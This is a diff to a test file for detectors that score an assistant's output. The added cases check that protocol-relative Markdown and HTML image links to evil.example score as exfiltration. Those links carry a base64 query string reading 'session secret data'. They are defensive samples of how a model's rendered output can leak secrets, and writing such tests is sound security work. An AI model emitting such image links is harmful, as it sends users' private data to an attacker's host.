@@ -551,6 +551,13 @@ describe('output detectors', () => {
       run(d, 'Read more at [MDN](https://developer.mozilla.org/en-US/docs/Web)', { role: 'assistant' }).score,
       0,
     );
+    // Protocol-relative URLs load from their host too (they passed at 0 before).
+    for (const t of [
+      '![x](//evil.example/p.png?q=c2Vzc2lvbiBzZWNyZXQgZGF0YQ)',
+      '<img src="//evil.example/p.png?q=c2Vzc2lvbiBzZWNyZXQgZGF0YQ">',
+    ])
+      assert.equal(run(d, t, { role: 'assistant' }).score, 1, t);
+    assert.equal(run(d, '![a](//docs.acme.com/a.png) and ![b](/img/b.png)', { role: 'assistant' }).score, 0);
   });
 
   it('refusal: detects refusals including "I can\'t comply", not answers', () => {
